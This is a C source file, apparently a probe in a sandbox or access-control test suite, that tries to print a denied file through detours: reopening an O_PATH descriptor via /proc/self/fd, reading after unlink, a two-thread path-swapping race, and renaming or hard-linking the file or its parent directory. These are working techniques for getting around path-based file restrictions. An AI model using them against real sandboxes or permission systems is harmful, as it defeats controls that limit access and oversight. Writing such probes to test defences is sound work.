// Prints a denied file by a detour. Arguments: HOW FILE DIRECTORY, where DIRECTORY may be written.
// path: opened for nothing, then opened again by descriptor. removed: the same, after the name is gone. race: two threads, one changes the
// path that the other opens, until the denied file was read. rename, link, above: under another name, its own or that of the directory that holds it.
#include "attack.h"
#include <pthread.h>
#include <stdatomic.h>
#include <time.h>

#define SECONDS 2

static volatile char name[512];
static const char *denied, *harmless;
static atomic_bool done;

static const char known[] = "nothing\n";

/** Prints what it holds. @return whether that is more than is known of the harmless file */
static int print_open(int fd) {
  char text[4096];
  const ssize_t length = read(fd, text, sizeof text);
  if (length > 0) fwrite(text, 1, (size_t)length, stdout);
  fflush(stdout);
  close(fd);
  return length > 0 && ((size_t)length != strlen(known) || memcmp(text, known, strlen(known)) != 0);
}

static int by_descriptor(int removes) {
  char link[64];
  const int place = open(denied, O_PATH | O_CLOEXEC);
  if (place < 0) refused("open");
  if (removes && unlink(denied) != 0) refused("unlink");
  snprintf(link, sizeof link, "/proc/self/fd/%d", place);
  print_file(link);
  return 0;
}

static void *flip(void *unused) {
  (void)unused;
  while (!done) {
    for (size_t at = 0; at <= strlen(harmless); at++) name[at] = harmless[at];
    for (size_t at = 0; at <= strlen(denied); at++) name[at] = denied[at];
  }
  return NULL;
}

static int race(const char *directory) {
  char other[512];
  snprintf(other, sizeof other, "%s/harmless", directory);
  harmless = other;
  write_proof(other, known);
  strcpy((char *)name, other);
  pthread_t thread;
  pthread_create(&thread, NULL, flip, NULL);
  int gained = 0;
  for (const time_t end = time(NULL) + SECONDS; time(NULL) < end && !gained;) {
    const int fd = open((const char *)name, O_RDONLY);
    if (fd >= 0) gained = print_open(fd);
  }
  done = 1;
  pthread_join(thread, NULL);
  return 0;
}

static int under_another_name(const char *how, const char *directory) {
  char other[512];
  snprintf(other, sizeof other, "%s/other", directory);
  if (strcmp(how, "above") == 0) {
    char above[512];
    snprintf(above, sizeof above, "%s", denied);
    char *slash = strrchr(above, '/');
    *slash = '\0';
    if (rename(above, other) != 0) refused("rename");
    strcat(strcat(other, "/"), slash + 1);
  } else if ((strcmp(how, "link") == 0 ? link(denied, other) : rename(denied, other)) != 0) {
    refused(how);
  }
  print_file(other);
  return 0;
}

int main(int count, char **words) {
  attempting(count, 3);
  denied = words[2];
  if (strcmp(words[1], "path") == 0) return by_descriptor(0);
  if (strcmp(words[1], "removed") == 0) return by_descriptor(1);
  return strcmp(words[1], "race") == 0 ? race(words[3]) : under_another_name(words[1], words[3]);
}
